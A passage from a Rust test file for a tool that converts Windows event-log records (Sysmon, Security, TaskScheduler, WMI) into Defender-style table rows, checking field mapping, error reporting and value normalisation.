                "InitiatingProcessFileName": "explorer.exe", "AccountName": "alice"}),
        },
        Case {
            channel: "Microsoft-Windows-TaskScheduler/Operational",
            id: 106,
            data: json!({"TaskName": "\\Evil", "UserContext": "CONTOSO\\alice"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ScheduledTaskCreated", "AccountName": "alice", "AdditionalFields": {"TaskName": "\\Evil"}}),
        },
        Case {
            channel: "Microsoft-Windows-WMI-Activity/Operational",
            id: 5861,
            data: json!({"Namespace": "//./root/subscription", "ESS": "x", "CONSUMER": "y"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WmiBindEventFilterToConsumer"}),
        },
    ]);
}

#[test]
fn unmapped_events_land_in_device_events_with_all_fields() {
    check(&[
        Case {
            channel: SECURITY,
            id: 4672,
            data: json!({"SubjectUserName": "alice", "PrivilegeList": "SeDebugPrivilege", "Empty": "-"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WinEvent:Security:4672",
                "AdditionalFields": {"SubjectUserName": "alice", "PrivilegeList": "SeDebugPrivilege"}}),
        },
        Case {
            channel: "security",
            id: 5156,
            data: json!({"Direction": "%%14593"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WinEvent:Security:5156"}),
        },
        Case {
            channel: "Windows PowerShell",
            id: 800,
            data: json!({"Data": ["a", "b"]}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WinEvent:Windows PowerShell:800", "AdditionalFields": {"Data": ["a", "b"]}}),
        },
    ]);
}

#[test]
fn raw_keeps_every_field_with_sigma_names() {
    let m = map_json(
        SYSMON,
        1,
        json!({"Image": "C:\\a.exe", "RuleName": "-", "Channel": "shadowed"}),
    );
    let raw = &m.raw;
    assert_eq!(raw["EventID"], 1);
    assert_eq!(raw["Channel"], SYSMON);
    assert_eq!(raw["Provider_Name"], "Microsoft-Windows-Sysmon");
    assert_eq!(raw["Computer"], COMPUTER);
    assert_eq!(raw["EventRecordID"], 4242);
    assert_eq!(raw["TimeCreated"], "2025-12-25T14:30:27.369114Z");
    assert_eq!(raw["UserID"], "S-1-5-18");
    assert_eq!(raw["Image"], "C:\\a.exe");
    assert_eq!(raw["RuleName"], "-");
    // A data field named like the envelope keeps its value under its section's prefix.
    assert_eq!(raw["EventData_Channel"], "shadowed");
    for (k, v) in [
        ("Level", json!(4)),
        ("Keywords", json!("0x8000000000000000")),
        ("Execution_ProcessID", json!(3208)),
        ("Execution_ThreadID", json!(1724)),
        (
            "Provider_Guid",
            json!("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
        ),
    ] {
        assert_eq!(raw.get(k), Some(&v), "raw {k}");
    }
    assert!(!raw.contains_key("Correlation"), "nulls carry nothing");
}

#[test]
fn user_data_is_flattened_by_leaf_name() {
    let v = json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "P"}}, "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 7036},
            "TimeCreated": {"#attributes": {"SystemTime": "2025-01-01T00:00:00Z"}}, "Channel": "Custom", "Computer": "H"},
        "UserData": {"Outer": {"#attributes": {"xmlns": "urn:x"}, "A": "1", "Inner": {"A": "2", "B": {"#attributes": {"Kind": "k"}, "#text": "3"}}}}}});
    let e = WinEvent::from_evtx_json(&v).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(e.event_id, 7036);
    let raw = e.raw();
    assert_eq!(raw["A"], "1");
    assert_eq!(raw["Inner_A"], "2");
    assert_eq!(raw["B"], "3");
    assert_eq!(raw["Kind"], "k");
    assert_eq!(raw["EventID_Qualifiers"], 16384);
    assert!(!raw.contains_key("xmlns"));
    let m = map_event(&e);
    assert_eq!(m.row["ActionType"], "WinEvent:Custom:7036");
    assert_row_conventions(&m);
}

#[test]
fn flat_json_maps_like_evtx_json() {
    let nested = evtx_json(
        SYSMON,
        "Microsoft-Windows-Sysmon",
        1,
        json!({"Image": "C:\\a.exe", "ProcessId": 5, "CommandLine": "a"}),
    );
    let flat = json!({"EventID": "1", "Channel": SYSMON, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": COMPUTER,
        "@timestamp": "2025-12-25T14:30:27.369114Z", "TimeCreated": "2025-12-25 14:30:27.369", "RecordNumber": "4242",
        "Image": "C:\\a.exe", "ProcessId": "5", "CommandLine": "a", "Message": "Process Create: …", "Level": "4"});
    let a = map_event(&WinEvent::from_evtx_json(&nested).unwrap_or_else(|e| panic!("{e}")));
    let flat = WinEvent::from_flat_json(flat.as_object().unwrap_or(&Map::new()))
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(flat.record_id, Some(4242));
    let b = map_event(&flat);
    assert_eq!(a.row, b.row);
    assert_eq!(b.raw["Message"], "Process Create: …");
    assert_eq!(b.raw["System_TimeCreated"], "2025-12-25 14:30:27.369");
    // `raw` reads back as a flat event, to the same row.
    let again = map_event(&WinEvent::from_flat_json(&a.raw).unwrap_or_else(|e| panic!("{e}")));
    assert_eq!(again.row["ProcessCommandLine"], a.row["ProcessCommandLine"]);
    assert_eq!(again.row["Timestamp"], a.row["Timestamp"]);
}

#[test]
fn malformed_events_are_errors_with_reasons() {
    let ok = evtx_json(SYSMON, "P", 1, json!({}));
    let mut cases: Vec<(Value, EvtxError)> = vec![(json!([1, 2]), EvtxError::NotAnObject)];
    let mut no_system = ok.clone();
    no_system["Event"]
        .as_object_mut()
        .map(|o| o.remove("System"));
    cases.push((no_system, EvtxError::MissingField { field: "System" }));
    let mut no_id = ok.clone();
    no_id["Event"]["System"]
        .as_object_mut()
        .map(|o| o.remove("EventID"));
    cases.push((no_id, EvtxError::MissingField { field: "EventID" }));
    let mut bad_id = ok.clone();
    bad_id["Event"]["System"]["EventID"] = json!("four");
    cases.push((
        bad_id,
        EvtxError::BadField {
            field: "EventID",
            reason: "\"four\" is not an event id".into(),
        },
    ));
    let mut bad_time = ok.clone();
    bad_time["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"] = json!("yesterday");
    cases.push((
        bad_time,
        EvtxError::BadField {
            field: "TimeCreated",
            reason: "'yesterday' is not a time".into(),
        },
    ));
    // Logs converted from ETW have a provider but no channel; with neither, nothing says
    // what the event is.
    let mut etw = ok.clone();
    etw["Event"]["System"]
        .as_object_mut()
        .map(|o| o.remove("Channel"));
    let m = map_event(&WinEvent::from_evtx_json(&etw).unwrap_or_else(|e| panic!("{e}")));
    assert_eq!(m.row["ActionType"], "WinEvent:P:1");
    let mut no_channel = etw;
    no_channel["Event"]["System"]
        .as_object_mut()
        .map(|o| o.remove("Provider"));
    cases.push((no_channel, EvtxError::MissingField { field: "Channel" }));
    for (v, want) in cases {
        assert_eq!(WinEvent::from_evtx_json(&v), Err(want));
    }
    let flat = json!({"Channel": "Security", "EventID": 4624});
    assert_eq!(
        WinEvent::from_flat_json(flat.as_object().unwrap_or(&Map::new())),
        Err(EvtxError::MissingField {
            field: "TimeCreated"
        })
    );
    assert_eq!(
        EvtxError::MissingField { field: "Channel" }.to_string(),
        "event has no Channel"
    );
}

#[test]
fn values_are_normalised() {
    assert_eq!(
        normalize_time("2025-12-25T14:30:27.3691148Z").as_deref(),
        Some("2025-12-25T14:30:27.369114Z")
    );
    assert_eq!(
        normalize_time("2020-10-19 10:46:42.027").as_deref(),
        Some("2020-10-19T10:46:42.027000Z")
    );
    assert_eq!(
        normalize_time("2020-10-19T12:46:42+02:00").as_deref(),
        Some("2020-10-19T10:46:42.000000Z")
    );
    assert_eq!(normalize_time("soon"), None);
    for (from, to) in [
        ("HKLM\\SOFTWARE\\x", "HKEY_LOCAL_MACHINE\\SOFTWARE\\x"),
        (
            "\\REGISTRY\\MACHINE\\SYSTEM\\y",
            "HKEY_LOCAL_MACHINE\\SYSTEM\\y",
        ),
        (
            "\\REGISTRY\\USER\\S-1-5-21-1\\z",
            "HKEY_CURRENT_USER\\S-1-5-21-1\\z",
        ),
        ("HKU\\.DEFAULT\\z", "HKEY_USERS\\.DEFAULT\\z"),
        (
            "HKCR\\CLSID\\{1}",
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\CLSID\\{1}",
        ),
        ("HKLMX\\no", "HKLMX\\no"),
        ("HKEY_LOCAL_MACHINE\\a", "HKEY_LOCAL_MACHINE\\a"),
    ] {
        assert_eq!(registry_key(from), to);
    }
    assert_eq!(
        registry_details("QWORD (0x00000001-0x00000002)"),
        ("Qword", Some("4294967298".into()))
    );
    assert_eq!(registry_details("Binary Data"), ("Binary", None));
    assert_eq!(
        registry_details("C:\\x.exe"),
        ("String", Some("C:\\x.exe".into()))
    );
    assert_eq!(
        executable("\"C:\\Program Files\\a b\\x.exe\" -k"),
        "C:\\Program Files\\a b\\x.exe"
    );
    assert_eq!(
        executable("C:\\Program Files\\a b\\x.exe -k"),
        "C:\\Program Files\\a b\\x.exe"
    );
    assert_eq!(executable("cmd /c echo"), "cmd");
    let id = device_id("WS01.contoso.local");
    assert_eq!(id.len(), 40);
    assert!(
        id.chars()
            .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
    );
    assert_eq!(id, device_id("ws01.CONTOSO.local"));
}
